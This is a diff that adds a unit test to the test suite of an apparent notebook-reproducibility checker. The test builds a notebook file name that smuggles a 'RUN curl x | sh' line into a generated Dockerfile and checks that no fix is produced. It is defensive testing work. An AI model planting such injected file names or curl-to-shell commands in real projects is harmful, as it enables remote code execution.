@@ -165,6 +165,15 @@ class TestNoReproducibleEnvironment:
             folder.mkdir()
             assert reproducible(folder, files, "import pandas") == [], files
 
+    def test_a_line_break_in_the_notebook_name_gives_no_dockerfile(self, tmp_path):
+        (tmp_path / ".git").mkdir()
+        from jupyterlab_promote.engine.notebook.model import notebook_from_dict
+
+        nb = notebook_from_dict(notebook_json("import pandas"), tmp_path / "a\nRUN curl x | sh\n.ipynb")
+        nb.path.write_text("{}")
+        [v] = list(no_reproducible_environment(nb))
+        assert v.fixes == ()
+
     def test_a_description_above_the_notebook_counts_but_not_past_the_repository_root(self, tmp_path):
         (tmp_path / "Dockerfile").write_text("FROM python:3.11\n")
         project = tmp_path / "project"
